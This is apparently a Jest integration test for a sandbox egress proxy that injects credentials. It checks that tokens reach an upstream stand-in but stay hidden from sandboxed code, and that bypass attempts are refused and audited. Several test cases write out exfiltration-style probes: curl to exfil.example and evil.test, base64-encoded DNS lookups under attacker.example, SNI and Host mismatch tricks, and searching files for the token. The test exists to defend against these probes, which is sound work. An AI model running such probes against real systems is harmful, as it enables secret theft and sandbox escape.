import { createHash, randomUUID } from 'node:crypto';
import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
import { createServer as createHttpsServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { issueCertificate, loadCa } from '@palisade/pki';
import { EgressAuditBatcher, type EgressBatch } from '../src/egress/egress.audit';
import type { CredentialLeases, LeaseContext } from '../src/egress/egress.credentials';
import type { EgressContext } from '../src/egress/egress.proxy';
import type { EgressRule } from '../src/egress/egress.rules';
import { EgressService } from '../src/egress/egress.service';
import { CrunRuntime } from '../src/runtime/crun.runtime';
import type { ExecResult, SandboxLimits } from '../src/runtime/runtime.port';

/**
 * The egress proxy with credential injection, on the real crun runtime: a local HTTPS
 * upstream (a stand-in for Gerrit, with a dev-CA certificate) records the Authorization
 * it receives; code in the sandbox fetches through the proxy with curl and python.
 */
jest.setTimeout(60_000);

const LIMITS: SandboxLimits = { cpuMillis: 500, memoryMb: 128, pids: 48, workspaceMb: 16, timeoutMs: 20_000 };
const INSTANCE = `egr${process.pid}`;
const TOKEN = `gerrit-token-${randomUUID()}`;
const SECRET_ID = randomUUID();
const A = randomUUID();
const B = randomUUID();

const received: Array<{ host?: string; path?: string; authorization?: string }> = [];
const leaseCalls: LeaseContext[] = [];
const leases: CredentialLeases = {
  value: async (context) => {
    leaseCalls.push(context);
    return TOKEN;
  },
};
const batches: EgressBatch[] = [];
const audit = new EgressAuditBatcher(async (b) => void batches.push(b), { intervalMs: 200 });
const contexts = new Map<string, EgressContext>();
// every name the egress side resolves itself (the proxy, for allowed names): the sandbox's resolver forwards nothing
const resolvedByProxy: string[] = [];
const egress = new EgressService({ instance: INSTANCE, context: async (id) => contexts.get(id), leases, audit, resolve: async (name) => (resolvedByProxy.push(name), []) });
const runtime = new CrunRuntime({ crun: process.env.SANDBOX_CRUN ?? 'crun', runDir: '/run/palisade-sandbox-test', instance: INSTANCE, egress });

let upstream: Server;
/** Stand-ins on 443 and 80 of a loopback address of their own: where direct (transparent) connections go. */
const DIRECT_ADDRESS = `127.88.${process.pid % 250}.${1 + ((process.pid >> 8) % 250)}`;
let direct443: Server;
let direct80: HttpServer;
const directSeen: string[] = [];
let port = 0;
let devCa = '';
let hostEnd = '';

function run(sandbox: string, argv: string[], env: Record<string, string> = {}): Promise<ExecResult> {
  return runtime.exec(sandbox, randomUUID(), { argv, env, timeoutMs: LIMITS.timeoutMs, outputCapBytes: 256 * 1024 }).result;
}
const sh = (script: string, sandbox = A) => run(sandbox, ['/bin/sh', '-c', script]);
const py = (code: string, ...args: string[]) => run(A, ['/usr/bin/python3', '-c', code, ...args]);
const all = (r: ExecResult) => `${r.stdout.toString()}${r.stderr.toString()}`;

beforeAll(async () => {
  const ca = await loadCa(join(__dirname, '../../../.palisade/pki'));
  const cert = await issueCertificate(ca, { kind: 'server', name: 'gerrit-stand-in', dns: ['gerrit.test', 'other.test', 'plain.test', 'direct.test', 'splice.test', 'ws.test', 'api.test'] });
  devCa = cert.caPem;
  // the stand-in for Gerrit: records what it receives and echoes the Authorization back (the proxy must scrub it)
  upstream = createHttpsServer({ cert: cert.certPem, key: cert.keyPem }, (req, res) => {
    received.push({ host: req.headers.host, path: req.url, authorization: req.headers.authorization });
    res.setHeader('x-echo-authorization', String(req.headers.authorization));
    if (req.url?.startsWith('/redirect')) return void res.writeHead(302, { location: 'https://other.test:' + port + '/a/changes/' }).end();
    res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ changes: [{ id: 'I1' }], youSent: req.headers.authorization, url: req.url }));
  });
  // a WebSocket stand-in: accepts the handshake on /ws, then echoes the bytes it gets
  upstream.on('upgrade', (req, socket: import('node:net').Socket) => {
    received.push({ host: req.headers.host, path: req.url, authorization: req.headers.authorization });
    const accept = createHash('sha1').update(`${String(req.headers['sec-websocket-key'])}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest('base64');
    socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`);
    socket.on('data', (d) => socket.write(Buffer.concat([Buffer.from('echo:'), d])));
  });
  await new Promise<void>((resolve) => upstream.listen(0, '0.0.0.0', resolve));
  port = (upstream.address() as AddressInfo).port;
  direct443 = createHttpsServer({ cert: cert.certPem, key: cert.keyPem }, (req, res) => {
    directSeen.push(`https ${req.headers.host} ${req.url}`);
    res.end(`direct-https ${req.headers.host}`);
  });
  direct80 = createHttpServer((req, res) => {
    directSeen.push(`http ${req.headers.host} ${req.url}`);
    res.end(`direct-http ${req.headers.host}`);
  });
  await new Promise<void>((resolve) => direct443.listen(443, DIRECT_ADDRESS, resolve));
  await new Promise<void>((resolve) => direct80.listen(80, DIRECT_ADDRESS, resolve));
  const rules: EgressRule[] = [
    {
      id: 'gerrit-changes',
      host: 'gerrit.test',
      ports: [port],
      methods: ['GET'],
      pathPrefixes: ['/a/changes/', '/redirect'],
      addresses: ['127.0.0.1'],
      upstreamCaPem: devCa,
      inject: { secretId: SECRET_ID, tool: 'gerrit', as: { type: 'header', name: 'Authorization', prefix: 'Bearer ' } },
    },
    { id: 'plain-spliced', host: 'plain.test', ports: [port], addresses: ['127.0.0.1'] },
    { id: 'public-only', host: 'rebind.test', ports: [port], intercept: true, upstreamCaPem: devCa },
    { id: 'direct-https', host: 'direct.test', addresses: [DIRECT_ADDRESS], intercept: true, pathPrefixes: ['/ok'], upstreamCaPem: devCa },
    { id: 'direct-http', host: 'direct.test', scheme: 'http', addresses: [DIRECT_ADDRESS] },
    { id: 'splice-443', host: 'splice.test', addresses: [DIRECT_ADDRESS] },
    { id: 'ws-echo', host: 'ws.test', ports: [port], pathPrefixes: ['/ws'], websocket: true, addresses: ['127.0.0.1'], upstreamCaPem: devCa },
    { id: 'api-key', host: 'api.test', ports: [port], addresses: ['127.0.0.1'], upstreamCaPem: devCa, inject: { secretId: SECRET_ID, tool: 'api', as: { type: 'query', name: 'api_key' } } },
  ];
  contexts.set(A, { tenantId: 'tenant-a', sessionId: 'session-a', rules });
  contexts.set(B, { tenantId: 'tenant-a', sessionId: 'session-b', rules: [] });
  await runtime.check();
  await egress.warm(); // both sandboxes get prepared (pooled) networks
  expect(egress.pooled).toBeGreaterThanOrEqual(2);
  await runtime.create(A, LIMITS);
  await runtime.create(B, LIMITS);
  hostEnd = /http:\/\/([\d.]+):/.exec((await sh('echo $HTTPS_PROXY')).stdout.toString())![1]!;
});

afterAll(async () => {
  await runtime.remove(A).catch(() => undefined);
  await runtime.remove(B).catch(() => undefined);
  await egress.stopPool();
  await audit.close();
  await new Promise((r) => upstream?.close(r));
  await new Promise((r) => direct443?.close(r));
  await new Promise((r) => direct80?.close(r));
});

describe('egress proxy with credential injection (real crun)', () => {
  it('injects the token: the upstream receives it, the sandbox’s output, environment and files do not', async () => {
    const r = await sh(`curl -sS --max-time 10 -H 'Authorization: Bearer sandbox-fake' -D - https://gerrit.test:${port}/a/changes/?q=status:open; echo; env; cat /etc/ssl/sandbox-ca.pem; grep -rl '${TOKEN.slice(0, 20)}' /workspace /etc /tmp 2>/dev/null; echo grep-done`);
    const text = all(r);
    expect(text).toContain('"changes":[{"id":"I1"}]');
    expect(text).toContain('[redacted by palisade]'); // the upstream echoed it: scrubbed from headers and body
    expect(text).toContain('HTTPS_PROXY=http://');
    expect(text).toContain('BEGIN CERTIFICATE');
    expect(text).not.toContain(TOKEN);
    expect(text).not.toContain('PRIVATE KEY');
    expect(text).toContain('grep-done');
    const got = received.filter((x) => x.path?.startsWith('/a/changes/'));
    expect(got.at(-1)?.authorization).toBe(`Bearer ${TOKEN}`); // the client's own Authorization was stripped
    expect(leaseCalls.at(-1)).toEqual({ tenantId: 'tenant-a', sessionId: 'session-a', sandboxId: A, tool: 'gerrit', secretId: SECRET_ID });
  });

  it('python (urllib through HTTPS_PROXY) gets the same, and never the token', async () => {
    const r = await py(`import urllib.request, sys\nprint(urllib.request.urlopen(sys.argv[1], timeout=10).read().decode())`, `https://gerrit.test:${port}/a/changes/`);
    expect(all(r)).toContain('"changes"');
    expect(all(r)).not.toContain(TOKEN);
  });

  it('a disallowed path, a disallowed method and another host are refused (the token is not sent)', async () => {
    const before = received.length;
    const path = await sh(`curl -s -o /dev/null -w '%{http_code}' https://gerrit.test:${port}/a/accounts/self`);
    expect(path.stdout.toString()).toBe('403');
    const dots = await sh(`curl -s --path-as-is -o /dev/null -w '%{http_code}' https://gerrit.test:${port}/a/changes/../accounts/self`);
    expect(dots.stdout.toString()).toBe('403');
    const post = await sh(`curl -s -X POST -d x -o /dev/null -w '%{http_code}' https://gerrit.test:${port}/a/changes/`);
    expect(post.stdout.toString()).toBe('403');
    const other = await sh(`curl -sS --max-time 10 https://other.test:${port}/a/changes/ 2>&1; echo " exit=$?"`);
    expect(other.stdout.toString()).toMatch(/403|CONNECT/);
    expect(other.stdout.toString()).not.toMatch(/exit=0$/);
    const plainHttp = await sh(`curl -s -o /dev/null -w '%{http_code}' http://exfil.example/`);
    expect(plainHttp.stdout.toString()).toBe('403');
    expect(received.length).toBe(before);
  });

  it('a redirect to another host is decided again at the next hop (refused)', async () => {
    const r = await sh(`curl -sS -L --max-time 10 https://gerrit.test:${port}/redirect 2>&1; echo " exit=$?"`);
    expect(r.stdout.toString()).not.toMatch(/exit=0$/);
    expect(received.some((x) => x.host?.startsWith('other.test'))).toBe(false);
  });

  it('direct connections ignoring the proxy fail: by IP to the upstream, to the host end’s other ports, UDP DNS', async () => {
    // the upstream listens on 0.0.0.0: the host end of the link would reach it, were it not for the namespace's rules
    const code = `
import socket, sys
def tcp(h, p):
    s = socket.socket(); s.settimeout(2)
    try:
        s.connect((h, p)); return 'connected'
    except OSError as e:
        return 'refused %s' % (e.errno or 'timeout')
print(tcp(sys.argv[1], int(sys.argv[2])))
print(tcp('127.0.0.1', int(sys.argv[2])))
print(tcp(sys.argv[1], 5432))
print(tcp('1.1.1.1', 443))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b'x', (sys.argv[1], 54)); print('sent')
except OSError as e:
    print('unsent', e.errno)
print(tcp(sys.argv[1], 3128))
`;
    const r = await py(code, hostEnd, String(port));
    const lines = r.stdout.toString().trim().split('\n');
    expect(lines.slice(0, 4)).toEqual([expect.stringMatching(/^refused/), expect.stringMatching(/^refused/), expect.stringMatching(/^refused/), 'refused 101']);
    expect(lines[4]).toMatch(/^unsent 1$/); // EPERM from the namespace's nftables (UDP only to 53, the resolver)
    expect(lines[5]).toBe('connected'); // the proxy, and only it
    const noProxy = await sh(`curl -sS --noproxy '*' --max-time 4 --resolve gerrit.test:${port}:${hostEnd} https://gerrit.test:${port}/a/changes/ 2>&1; echo " exit=$?"`);
    expect(noProxy.stdout.toString()).not.toMatch(/exit=0$/);
    expect(received.some((x) => x.authorization === undefined && x.path === '/a/changes/')).toBe(false);
  });

  it('SNI ≠ CONNECT target is refused (intercepted and spliced)', async () => {
    const code = `
import socket, ssl, sys
def attempt(target, sni):
    s = socket.create_connection((sys.argv[1], 3128), timeout=5)
    s.sendall(('CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (target, target)).encode())
    head = s.recv(4096).decode()
    if ' 200 ' not in head: return 'connect ' + head.split('\\r\\n')[0]
    ctx = ssl.create_default_context(cafile='/etc/ssl/sandbox-ca-bundle.pem')
    ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
    try:
        t = ctx.wrap_socket(s, server_hostname=sni)
        t.sendall(('GET /a/changes/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n' % target).encode())
        data = t.recv(4096)
        return 'answered ' + data.decode(errors='replace').split('\\r\\n')[0] if data else 'closed'
    except (OSError, ssl.SSLError) as e:
        return 'refused'
print(attempt('gerrit.test:%s' % sys.argv[2], 'other.test'))
print(attempt('plain.test:%s' % sys.argv[2], 'gerrit.test'))
print(attempt('gerrit.test:%s' % sys.argv[2], 'gerrit.test'))
`;
    const r = await py(code, hostEnd, String(port));
    const [intercepted, spliced, same] = r.stdout.toString().trim().split('\n');
    expect(intercepted).toBe('refused');
    expect(spliced).toMatch(/^(refused|closed)$/);
    expect(same).toBe('answered HTTP/1.1 200 OK'); // the same client with a matching SNI passes
  });

  it('Host ≠ CONNECT target inside the tunnel, and a WebSocket upgrade, are refused', async () => {
    const host = await sh(`curl -s -o /dev/null -w '%{http_code}' -H 'Host: other.test:${port}' https://gerrit.test:${port}/a/changes/`);
    expect(host.stdout.toString()).toBe('403');
    const ws = await sh(`curl -s -o /dev/null -w '%{http_code}' -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' https://gerrit.test:${port}/a/changes/`);
    expect(ws.stdout.toString()).toBe('403');
  });

  it('injects a query parameter the rule names (replacing the client’s), and the echoed value is scrubbed', async () => {
    const r = await sh(`curl -sS --max-time 10 'https://api.test:${port}/v1/search?api_key=mine&q=a+b'`);
    const got = received.filter((x) => x.host?.startsWith('api.test')).at(-1);
    expect(got?.path).toBe(`/v1/search?q=a+b&api_key=${encodeURIComponent(TOKEN)}`);
    expect(got?.authorization).toBeUndefined();
    expect(all(r)).toContain('"url":"/v1/search?q=a+b&api_key=[redacted by palisade]"');
    expect(all(r)).not.toContain(TOKEN);
    expect(leaseCalls.at(-1)).toMatchObject({ tool: 'api', secretId: SECRET_ID });
  });

  it('a WebSocket upgrade passes only where a rule allows it (host, path), then carries the frames', async () => {
    const code = `
import base64, os, socket, ssl, sys
def ws(target, path):
    s = socket.create_connection((sys.argv[1], 3128), timeout=5)
    s.sendall(('CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (target, target)).encode())
    if b' 200 ' not in s.recv(4096): return 'connect refused'
    t = ssl.create_default_context(cafile='/etc/ssl/sandbox-ca-bundle.pem').wrap_socket(s, server_hostname=target.split(':')[0])
    key = base64.b64encode(os.urandom(16)).decode()
    t.sendall(('GET %s HTTP/1.1\\r\\nHost: %s\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: %s\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n' % (path, target, key)).encode())
    head = t.recv(4096).decode(errors='replace')
    status = head.split('\\r\\n')[0]
    if ' 101 ' not in status: return status
    t.sendall(b'frame-bytes')
    return status + ' ' + t.recv(4096).decode(errors='replace')
print(ws('ws.test:' + sys.argv[2], '/ws/chat'))
print(ws('ws.test:' + sys.argv[2], '/other'))
print(ws('gerrit.test:' + sys.argv[2], '/a/changes/'))
`;
    const r = await py(code, hostEnd, String(port));
    expect(r.stdout.toString().trim().split('\n')).toEqual(['HTTP/1.1 101 Switching Protocols echo:frame-bytes', 'HTTP/1.1 403 Forbidden', 'HTTP/1.1 403 Forbidden']);
    expect(received.filter((x) => x.host?.startsWith('ws.test')).map((x) => x.path)).toEqual(['/ws/chat']);
  });

  it('a name resolving only to non-public addresses is refused unless the rule names them', async () => {
    // rebind.test resolves (here) to nothing public: the proxy refuses before connecting
    const r = await sh(`curl -s -o /dev/null -w '%{http_code}' https://rebind.test:${port}/`);
    expect(r.stdout.toString()).toBe('403');
  });

  it('another sandbox has no rule: everything refused there, and its proxy is its own', async () => {
    const r = await sh(`curl -s -o /dev/null -w '%{http_code}' https://gerrit.test:${port}/a/changes/; echo; curl -s -o /dev/null -w '%{http_code}' --max-time 3 --proxy http://${hostEnd}:3128 https://gerrit.test:${port}/a/changes/; echo " exit=$?"`, B);
    const [own, others] = r.stdout.toString().trim().split('\n');
    expect(own).toBe('000'); // CONNECT refused (403) by its own proxy: curl reports no HTTP code
    expect(others).toMatch(/exit=(7|28)$/); // sandbox A's proxy address is not reachable from B
  });

  it('the sandbox’s resolver: an allowed name is the proxy’s address; another (exfiltration) is NXDOMAIN over UDP and TCP, and nothing is forwarded', async () => {
    const code = `
import socket, struct, sys
print(open('/etc/resolv.conf').read().split()[1])
print(sorted({a[4][0] for a in socket.getaddrinfo('gerrit.test', 443, socket.AF_INET)}))
try:
    socket.getaddrinfo('c2VjcmV0LXVkcA.attacker.example', 443); print('resolved')
except socket.gaierror as e:
    print('failed', e.errno)
def tcp_query(name):
    q = struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>HH', 1, 1)
    s = socket.create_connection((sys.argv[1], 53), timeout=5)
    s.sendall(struct.pack('>H', len(q)) + q)
    r = s.recv(4096)[2:]
    return 'rcode=%d answers=%d' % (r[3] & 15, struct.unpack('>H', r[6:8])[0])
print(tcp_query('c2VjcmV0LXRjcA.attacker.example'))
print(tcp_query('gerrit.test'))
`;
    const r = await py(code, hostEnd);
    expect(r.stdout.toString().trim().split('\n')).toEqual([hostEnd, `['${hostEnd}']`, 'failed -2', 'rcode=3 answers=0', 'rcode=0 answers=1']);
    expect(resolvedByProxy.filter((n) => n.includes('attacker'))).toEqual([]);
    await audit.flush();
    const dns = batches.filter((b) => b.sandboxId === A).flatMap((b) => b.decisions).filter((d) => d.stage === 'dns');
    expect(dns).toEqual(expect.arrayContaining([
      expect.objectContaining({ outcome: 'denied', host: 'c2VjcmV0LXVkcA.attacker.example', rule: 'default-deny', port: 53 }),
      expect.objectContaining({ outcome: 'denied', host: 'c2VjcmV0LXRjcA.attacker.example', rule: 'default-deny' }),
    ]));
    expect(dns.some((d) => d.host === 'gerrit.test')).toBe(false);
  });

  it('programs ignoring the proxy variables reach the proxy through the resolver, decided by SNI and Host', async () => {
    const r = await sh([
      `curl -sS --noproxy '*' --max-time 10 https://direct.test/ok/1`,
      `curl -sS --noproxy '*' --max-time 10 -o /dev/null -w ' %{http_code}' https://direct.test/not-ok`,
      `curl -sS --noproxy '*' --max-time 10 http://direct.test/plain`,
      `curl -sS -k --noproxy '*' --max-time 10 https://splice.test/spliced`,
      `curl -sS --noproxy '*' --max-time 5 https://gerrit.test/a/changes/ 2>/dev/null; echo " exit=$?"`,
      `curl -sS --noproxy '*' --max-time 5 --resolve evil.test:443:${hostEnd} https://evil.test/ 2>/dev/null; echo " exit=$?"`,
      `curl -sS --noproxy '*' --max-time 5 -H 'Host: evil.test' http://${hostEnd}/ -o /dev/null -w '%{http_code}'; echo " exit=$?"`,
      `curl -sS --noproxy '*' --max-time 5 https://nowhere.example/ 2>/dev/null; echo " exit=$?"`,
    ].join('; echo; '));
    expect(r.stdout.toString().split('\n').map((l) => l.trim()).filter(Boolean)).toEqual([
      'direct-https direct.test',
      '403', // intercepted: a path no rule allows
      'direct-http direct.test',
      'direct-https splice.test',
      'exit=35', // gerrit.test on 443: no rule for that port, the TLS connection is closed
      'exit=35', // SNI of a name no rule allows
      '403 exit=0', // Host of a name no rule allows
      'exit=6', // not resolved at all
    ]);
    expect(directSeen).toEqual(['https direct.test /ok/1', 'http direct.test /plain', 'https splice.test /spliced']);
  });

  it('every decision is audited, batched per sandbox, with rule and secret id, never the value', async () => {
    await audit.flush();
    const text = JSON.stringify(batches);
    expect(text).not.toContain(TOKEN);
    const decisions = batches.filter((b) => b.sandboxId === A).flatMap((b) => b.decisions);
    expect(decisions).toEqual(expect.arrayContaining([
      expect.objectContaining({ outcome: 'injected', host: 'gerrit.test', rule: 'gerrit-changes', secretId: SECRET_ID, method: 'GET', path: '/a/changes/' }),
      expect.objectContaining({ outcome: 'denied', host: 'other.test', rule: 'default-deny', stage: 'connect' }),
      expect.objectContaining({ outcome: 'denied', host: 'gerrit.test', path: '/a/accounts/self', rule: 'default-deny' }),
      expect.objectContaining({ outcome: 'denied', rule: 'sni-mismatch' }),
      expect.objectContaining({ outcome: 'denied', rule: 'host-mismatch' }),
      expect.objectContaining({ outcome: 'denied', rule: 'address-refused', host: 'rebind.test' }),
      expect.objectContaining({ outcome: 'denied', stage: 'connect', host: 'evil.test', port: 443, rule: 'default-deny' }),
      expect.objectContaining({ outcome: 'denied', stage: 'request', host: 'evil.test', port: 80, rule: 'default-deny' }),
      expect.objectContaining({ outcome: 'denied', stage: 'dns', host: 'nowhere.example' }),
      expect.objectContaining({ outcome: 'injected', host: 'api.test', rule: 'api-key', secretId: SECRET_ID, path: '/v1/search' }),
      expect.objectContaining({ outcome: 'allowed', host: 'ws.test', rule: 'ws-echo', path: '/ws/chat' }),
      expect.objectContaining({ outcome: 'denied', host: 'ws.test', path: '/other', rule: 'default-deny' }),
      expect.objectContaining({ outcome: 'denied', host: 'gerrit.test', rule: 'default-deny', reason: expect.stringContaining('upgrade (websocket) not allowed by rule gerrit-changes') }),
    ]));
    expect(batches.length).toBeLessThan(decisions.length); // batched, not one event per decision
  });
});
